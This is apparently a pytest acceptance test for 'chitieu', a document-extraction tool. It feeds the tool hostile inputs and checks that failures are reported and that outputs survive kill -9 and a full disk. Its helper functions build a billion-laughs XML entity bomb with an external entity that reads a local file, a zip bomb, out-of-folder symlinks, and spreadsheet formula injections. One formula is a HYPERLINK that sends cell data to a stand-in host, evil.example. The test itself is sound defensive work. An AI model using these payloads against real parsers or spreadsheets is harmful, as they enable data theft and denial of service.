"""Issue 12, acceptance: every hostile input of the issue, built for real, in one folder beside
the table seed, read by the real `chitieu extract` in processes of its own. The seed's rows
come out as its gold says, every other entry has its `documents` row (a failed one with a
sentence), no traceback, exit status 1. Then the previous outputs are shown to stay
byte-identical through kill -9 at seeded random moments of a run and through a full disk.

No assertion is about time: a wait is bounded only so that a hung run fails the test instead
of hanging it, and the kill delays are spread over the length of a run measured here (a
slower machine only lands more of them early).
"""
from __future__ import annotations

import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from conftest import PROSE_SEED, RAW, TABLE_SEED
from badfiles import reference_loop_pdf
from goldcheck import gold_mismatches, read_gold
from chitieu.pipeline.datapackage import validate_package
from chitieu.pipeline.outputs import OUTPUT_NAMES
from chitieu.pipeline.writers import FORMULA_STARTS
from test_hostile import (FIRST_NAME, SEED_TXT, csv_rows, docx_with_main_part, in_namespace, table_doc,
                          too_long_path)

# Seconds a document may take: every document here takes a second or a few on a loaded
# machine (the reference loop PDF fails at once as damaged). Every run passes it: a time-out
# is cached only for limits up to the one it failed by.
TIMEOUT = 20
SEED = f"{TABLE_SEED}.docx"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
LATIN1_NAME = os.fsdecode(b"k\xe9 ho\xe1ch.txt")  # as an old zip tool writes names
# What a run must never write: a file outside RAW, an XML entity fetched from disk or expanded.
SECRETS = ("Bí mật ngoài thư mục", "MẬT KHẨU 12345", "a" * 64)
# Root reads every folder whatever its mode: the runs give up that right, as a user has not it.
DROP_DAC = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search",
            "--inh-caps", "-dac_override,-dac_read_search"]
AS_USER = DROP_DAC if os.geteuid() == 0 and shutil.which("setpriv") else []
UNREADABLE = os.geteuid() != 0 or bool(AS_USER)  # whether chmod 000 can make a folder unreadable


def command(*args) -> list[str]:
    return [*AS_USER, sys.executable, "-m", "chitieu.pipeline.cli", *map(str, args)]


def extract(raw: Path, out: Path, *more: str) -> list[str]:
    return command(*more, "extract", raw, out, "--jobs", "2", "--timeout", TIMEOUT)


# ---------------------------------------------------------------------------- the inputs


def entity_bomb_docx(path: Path, secret: Path) -> Path:
    """The seed .docx with a billion-laughs DTD (entities of entities) and an external entity
    naming a file on this machine, both used in the body."""
    with zipfile.ZipFile(RAW / SEED) as z:
        xml = z.read("word/document.xml")
    start = xml.index(b"?>") + 2
    doctype = (b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
               b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
               b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;">'
               b'<!ENTITY x SYSTEM "file://' + str(secret).encode() + b'">]>')
    body = xml.index(b"<w:body>") + len(b"<w:body>")
    hostile = xml[:start] + doctype + xml[start:body] + b"<w:p><w:r><w:t>&f;&x;</w:t></w:r></w:p>" + xml[body:]
    return docx_with_main_part(RAW / SEED, path, main=hostile)


def long_prose(path: Path, size: int = 200 * 1024) -> Path:
    """A resolution of `size` bytes: the prose seed with its list of targets grown by distinct
    items and long paragraphs (the size at which prose used to take 28 s)."""
    seed = (RAW / f"{PROSE_SEED}.txt").read_text(encoding="utf-8")
    cut = seed.index("- Tỷ lệ dân số tham gia bảo hiểm y tế")
    words = ["phát triển", "kinh tế", "xã hội", "nâng cao", "chất lượng", "hiệu quả", "đầu tư", "hạ tầng",
             "giáo dục", "y tế", "môi trường", "nông thôn"]
    parts, k, total = [seed[:cut]], 0, len(seed.encode("utf-8"))
    while total < size:
        if k % 3:
            part = f"- Tỷ lệ {words[k % 12]} {words[k // 12 % 12]} số {k} đạt {k % 90},{k % 10}%.\n\n"
        else:
            part = (" ".join(words[(7 * k + j) % 12] for j in range(40))
                    + f", phấn đấu năm {2000 + k % 30} hoàn thành kế hoạch thứ {k}.\n\n")
        parts.append(part)
        total, k = total + len(part.encode("utf-8")), k + 1
    path.write_text("".join(parts) + seed[cut:], encoding="utf-8")
    return path


def hostile_batch(raw: Path, elsewhere: Path) -> dict[str, tuple[str, list[str]]]:
    """Every hostile entry of the issue under `raw`, beside the seed (put there first); returns
    source → (status, words its error sentence holds) for the entries that fail."""
    elsewhere.mkdir()
    table_doc(elsewhere / "secret.txt", name=SECRETS[0])
    (elsewhere / "entity.txt").write_text(SECRETS[1], encoding="utf-8")
    failing = {}

    # item 2: read, but never a number that is not one, nor a name that is not UTF-8
    table_doc(raw / "số-khổng-lồ.txt", target="9" * 400)
    table_doc(raw / LATIN1_NAME, agency="Sở Kế hoạch và Đầu tư")
    deep = too_long_path(raw)  # its row names the first folder too deep to open: found after the run
    failing[deep] = ("failed", ["the folder cannot be opened (File name too long)", "path is not too long"])
    # item 3: formulas in the content and in file names
    table_doc(raw / "=cmd.txt", name=LINK, agency="@SUM(1+1)")
    (raw / "@SUM(1+1).docx").write_bytes(b"=1+1\r\n" * 100)
    failing["@SUM(1+1).docx"] = ("failed", ["not a Word .docx file", "save it as .docx"])
    # item 6 and 9: links, a pipe, what cannot be opened
    (raw / "outside.txt").symlink_to(elsewhere / "secret.txt")
    failing["outside.txt"] = ("failed", ["a link to a file outside the input folder, which is not read"])
    (raw / "dangling.txt").symlink_to(elsewhere / "gone.txt")
    failing["dangling.txt"] = ("failed", ["a link to a file that does not exist"])
    (raw / "folder-link").symlink_to(elsewhere, target_is_directory=True)
    failing["folder-link"] = ("failed", ["links to folders are not followed"])
    os.mkfifo(raw / "pipe.txt")
    failing["pipe.txt"] = ("failed", ["it is a named pipe, not a file"])
    if UNREADABLE:
        (raw / "locked").mkdir()
        shutil.copyfile(RAW / f"{TABLE_SEED}.txt", raw / "locked" / "plan.txt")
        (raw / "locked").chmod(0)
        failing["locked/"] = ("failed", ["the folder cannot be opened (Permission denied)", "may read it"])
        table_doc(raw / "unreadable.txt", agency="Sở Tài chính")
        (raw / "unreadable.txt").chmod(0)
        failing["unreadable.txt"] = ("failed", ["the file cannot be opened (Permission denied)", "may read it"])
    # item 7 and 9: limits
    docx_with_main_part(RAW / SEED, raw / "bomb.docx", padding=100 * 1024 * 1024)
    failing["bomb.docx"] = ("failed", ["its part word/document.xml would unpack to 100.0 MB", "zip bomb"])
    entity_bomb_docx(raw / "entities.docx", elsewhere / "entity.txt")
    failing["entities.docx"] = ("failed", ["entity bomb", "check where it came from"])
    shutil.copyfile(RAW / SEED, raw / "plan-docx.txt")
    failing["plan-docx.txt"] = ("failed", ["the file is a zip archive", "not plain text"])
    reference_loop_pdf(raw / "loop.pdf")
    failing["loop.pdf"] = ("failed", [])
    long_prose(raw / "long-prose.txt")
    (raw / "too-long.txt").write_text(SEED_TXT * 700, encoding="utf-8")
    failing["too-long.txt"] = ("failed", ["more than the 4.0 MB chitieu reads"])
    return failing


# The entries that are read, whatever is odd about them (the name as the outputs write it).
READ = {SEED, "số-khổng-lồ.txt", "k\\xe9 ho\\xe1ch.txt", "=cmd.txt", "long-prose.txt"}


# ---------------------------------------------------------------------------- the batch


def cache_entry_of(out: Path, path: Path) -> Path:
    import hashlib

    sha = hashlib.sha256(path.read_bytes()).hexdigest()
    (entry,) = (out / ".cache" / sha[:2]).glob(f"{sha}-*.json")
    return entry


@pytest.fixture(scope="module")
def accepted(tmp_path_factory, frozen_root):
    """The acceptance run. Its OUT already holds the seed's result, whose cache entry has the
    wrong shape (item 2): the run must drop it and read the seed again. Every run of this file
    runs the code as it was when the session began (frozen_root, its cwd)."""
    base = tmp_path_factory.mktemp("acceptance")
    raw, out = base / "raw", base / "extracted"
    raw.mkdir()
    shutil.copyfile(RAW / SEED, raw / SEED)
    code = frozen_root
    first = subprocess.run(extract(raw, out), cwd=code, capture_output=True, text=True, timeout=600)
    assert first.returncode == 0, first.stderr
    cache_entry_of(out, raw / SEED).write_text(json.dumps({"document": {"source": 1}, "targets": "none"}))

    failing = hostile_batch(raw, base / "elsewhere")
    proc = subprocess.run(extract(raw, out, "-v"), cwd=code, capture_output=True, text=True, timeout=600)
    sources = [d["source"] for d in pq.read_table(out / "documents.parquet").to_pylist()]
    deep = next(iter(failing))
    failing[next(s for s in sources if s.startswith(f"{deep}/"))] = failing.pop(deep)
    yield base, raw, out, failing, proc, frozen_root
    if UNREADABLE:  # let the clean-up of tmp_path in
        (raw / "locked").chmod(0o755)


def test_the_hostile_batch_exits_1_without_a_traceback(accepted):
    _, _, out, failing, proc, _ = accepted
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr and "Exception" not in proc.stderr, proc.stderr
    assert f"{SEED}: read again (59 targets)" in proc.stderr  # not from its bad cache entry
    assert "not a cached result; it is dropped and the document read again" in proc.stderr
    documents = len(failing) + len(READ)
    assert proc.stdout.startswith(f"chitieu: {documents} documents, ")
    assert proc.stdout.endswith(f"), {len(failing)} failed, 0 skipped → {out}\n"), proc.stdout


def test_the_seed_comes_out_as_its_gold_says(accepted):
    _, _, out, _, _, _ = accepted
    rows = [t for t in pq.read_table(out / "targets.parquet").to_pylist() if t["source"] == SEED]
    assert len(rows) == len(read_gold(TABLE_SEED)) == 59
    mismatches = gold_mismatches(TABLE_SEED, rows)
    assert not mismatches, "\n".join(mismatches)


def test_every_other_entry_has_its_row_and_every_failure_a_sentence(accepted):
    _, _, out, failing, proc, _ = accepted
    documents = {row["source"]: row for row in pq.read_table(out / "documents.parquet").to_pylist()}
    assert set(documents) == set(failing) | READ
    for source in READ:
        assert (documents[source]["status"], documents[source]["error"]) == ("ok", None), documents[source]
    for source, (status, words) in failing.items():
        doc = documents[source]
        assert doc["status"] == status and doc["targets"] == 0, doc
        assert doc["error"].startswith(f"{source}: ")
        assert all(w in doc["error"] for w in words), doc["error"]
        assert f"failed: {doc['error']}" in proc.stderr.splitlines()
    loop = documents["loop.pdf"]["error"]
    assert "damaged" in loop, loop  # the loop is noticed, not run to the time limit


def test_what_is_read_is_read_safely(accepted):
    _, _, out, _, _, _ = accepted
    targets = pq.read_table(out / "targets.parquet").to_pylist()
    huge = next(t for t in targets if t["source"] == "số-khổng-lồ.txt" and t["name"] == FIRST_NAME)
    assert (huge["status"], huge["value_low"], huge["value_high"]) == ("unparsed", None, None)
    assert "number_out_of_range" in huge["notes"] and huge["target_text"] == "9" * 400
    assert all(t[c] is None or abs(t[c]) < float("inf") for t in targets for c in ("value_low", "value_high"))
    formula = next(t for t in targets if t["name"] == LINK)
    assert (formula["source"], formula["agency"]) == ("=cmd.txt", "@SUM(1+1)")  # Parquet keeps them
    assert sum(t["source"] == "long-prose.txt" for t in targets) > 600

    for name in ("targets.csv", "documents.csv", "actuals.csv", "indicators.csv", "scorecard.csv"):
        for row in csv_rows(out / name):
            assert not any(v.startswith(FORMULA_STARTS) for k, v in row.items() if k != "comparator"), row
    assert next(r for r in csv_rows(out / "targets.csv") if LINK in r["name"])["name"] == f"'{LINK}"
    assert "'@SUM(1+1).docx" in {r["source"] for r in csv_rows(out / "documents.csv")}

    everything = b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file() and ".cache" not in p.parts)
    text = everything.decode("utf-8", "replace")
    assert not [s for s in SECRETS if s in text]
    assert validate_package(out) == []


# ---------------------------------------------------------------------------- previous outputs


def snapshot(out: Path) -> dict[str, bytes]:
    """Every output file of OUT by its path in OUT: not the cache, the lock or temporary files."""
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*")
            if p.is_file() and ".cache" not in p.relative_to(out).parts
            and p.name != ".chitieu.lock" and not p.name.endswith(".tmp")}


def which_outputs(files: dict[str, bytes], before: dict[str, bytes], after: dict[str, bytes] | None) -> str:
    """'previous' or 'new': the outputs are wholly those of one run. Beside the previous ones
    there may be report files of the new run (content-named, named by no page yet); beside
    the new ones, report files of the previous run not yet pruned. Anything else fails."""
    main = {n: files.get(n) for n in OUTPUT_NAMES}
    for state, whole, other in (("previous", before, after), ("new", after, before)):
        if whole is None or main != {n: whole.get(n) for n in OUTPUT_NAMES}:
            continue
        changed = [p for p, data in whole.items() if files.get(p) != data]
        assert not changed, f"{state} outputs, but these differ: {changed}"
        page = files["report.html"]
        for extra in set(files) - set(whole):
            assert extra.startswith("report_files/") and extra.encode() not in page, extra
            assert other is None or other.get(extra) == files[extra], extra
        return state
    differ = [n for n in OUTPUT_NAMES if files.get(n) != before.get(n)]
    raise AssertionError(f"the outputs are of neither run: these differ from the previous ones: {differ}")


def add_documents(raw: Path) -> list[Path]:
    """Two new documents, so that a run has something to read and different outputs to write."""
    (raw / "added").mkdir()
    pdf, txt = raw / "added" / "prose.pdf", raw / "added" / "prose.txt"
    pdf.write_bytes((RAW / f"{PROSE_SEED}.pdf").read_bytes() + b"%added\n")
    txt.write_bytes((RAW / f"{PROSE_SEED}.txt").read_bytes() + b"\n")
    return [pdf, txt]


def session(sid: int) -> list[int]:
    """The processes of a session (the run and its workers)."""
    members = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[3]) == sid and fields[0] != "Z":
            members.append(int(stat.parent.name))
    return members


def until_gone(sid: int, limit: float = 60) -> list[int]:
    deadline = time.monotonic() + limit
    while (left := session(sid)) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left


TRIES = 10


def test_kill_9_at_random_moments_leaves_the_previous_outputs_whole(accepted):
    base, raw, out, _, _, code = accepted
    before = snapshot(out)
    added = add_documents(raw)
    try:
        after_out = base / "after"  # beside OUT: the report links to raw/ relative to its folder
        shutil.copytree(out, after_out, symlinks=True)
        started = time.monotonic()
        complete = subprocess.run(extract(raw, after_out), cwd=code, capture_output=True, text=True, timeout=600)
        length = time.monotonic() - started  # of a whole run; it only spreads the kills
        assert complete.returncode == 1 and "Traceback" not in complete.stderr, complete.stderr
        after = snapshot(after_out)
        assert after["targets.csv"] != before["targets.csv"]

        rng = random.Random(12)
        delays = [length * (k + rng.random()) / TRIES for k in range(TRIES)]  # one in each tenth of a run
        killed, states = base / "killed", []
        for delay in delays:
            shutil.rmtree(killed, ignore_errors=True)
            shutil.copytree(out, killed, symlinks=True)
            with open(base / "killed.stderr", "w+") as stderr:
                proc = subprocess.Popen(extract(raw, killed), cwd=code, stdout=subprocess.DEVNULL, stderr=stderr,
                                        start_new_session=True)
                try:
                    time.sleep(delay)
                    os.kill(proc.pid, signal.SIGKILL)
                    proc.wait(timeout=60)
                    assert until_gone(proc.pid) == [], "a worker outlived the run killed with kill -9"
                finally:
                    if session(proc.pid):
                        os.killpg(proc.pid, signal.SIGKILL)
                    proc.wait(timeout=60)
                stderr.seek(0)
                assert "Traceback" not in stderr.read()
            states.append(which_outputs(snapshot(killed), before, after))
        print(f"kill -9 after {', '.join(f'{d:.2f}' for d in delays)} s of a {length:.1f} s run: {states}")
        assert "previous" in states  # the first tenth of a run ends long before its outputs are written

        # the next run clears what the killed one left, and writes the new outputs whole
        proc = subprocess.run(extract(raw, killed), cwd=code, capture_output=True, text=True, timeout=600)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert snapshot(killed) == after
        assert [p for p in killed.rglob("*") if p.name.endswith(".tmp")] == []
    finally:
        for path in added:
            path.unlink()
        (raw / "added").rmdir()


# Room on the small disk beyond what the first run used, once the filler is gone: the new outputs
# beside the old and what the run adds to the cache (two results, their fragments, the linker's buckets).
ROOM_KIB = 4096


def test_a_full_disk_leaves_the_previous_outputs_whole(accepted):
    """OUT on a small tmpfs (in a user and mount namespace, as test_hostile does), holding the
    acceptance run's outputs and cache, filled up, then given back some room a step at a
    time; each run with a document added must stop with exit 2 until the new outputs fit."""
    base, raw, out, _, _, code = accepted
    before = snapshot(out)
    used = sum(-(-p.stat().st_size // 4096) * 4096 for p in out.rglob("*") if p.is_file())
    outputs = sum(len(before[name]) for name in OUTPUT_NAMES)
    frees = [0, outputs // 8, outputs // 2]  # all less than the new outputs need beside the old
    full, results = base / "full", base / "full-results"
    full.mkdir()
    results.mkdir()
    run = " ".join(f"'{a}'" for a in command("-q", "extract", raw, full, "--jobs", "2", "--timeout", TIMEOUT))
    steps = "".join(f"""
        truncate -s -{free - previous} {full}/filler
        {run} 2> {results}/{k}.stderr; echo $? > {results}/{k}.status
        mkdir {results}/{k}; cp -a {full}/*.* {full}/report_files {results}/{k}/; ls -aR {full} > {results}/{k}.listing
    """ for k, (previous, free) in enumerate(zip([0, *frees], frees)))
    added = add_documents(raw)
    try:
        proc = in_namespace(f"""
            cd {code}
            mount -t tmpfs -o size={used // 1024 + ROOM_KIB}k tmpfs {full}
            cp -a {out}/. {full}/
            dd if=/dev/zero of={full}/filler bs=64k 2>/dev/null || true
            set +e
            {steps}
            rm {full}/filler
            {run} 2> {results}/last.stderr; echo $? > {results}/last.status
            mkdir {results}/last; cp -a {full}/*.* {full}/report_files {results}/last/
            ls -aR {full} > {results}/last.listing
        """, base)
    finally:
        for path in added:
            path.unlink()
        (raw / "added").rmdir()
    assert proc.returncode == 0, proc.stderr
    sentence = (f"chitieu: error: the disk holding {full} is full (No space left on device); nothing was written "
                f"and the previous outputs are unchanged: free some space and run again\n")
    for k in range(len(frees)):
        stderr = (results / f"{k}.stderr").read_text()
        assert ((results / f"{k}.status").read_text(), stderr) == ("2\n", sentence), f"{frees[k]} bytes free"
        assert which_outputs(snapshot(results / str(k)), before, None) == "previous"
        assert ".tmp" not in (results / f"{k}.listing").read_text()
    # with room again, the run writes the new outputs whole
    assert (results / "last.status").read_text() == "1\n", (results / "last.stderr").read_text()
    last = snapshot(results / "last")
    assert last["targets.csv"] != before["targets.csv"] and "added/prose.pdf" in last["documents.csv"].decode()
    assert ".tmp" not in (results / "last.listing").read_text()
    assert validate_package(results / "last") == []
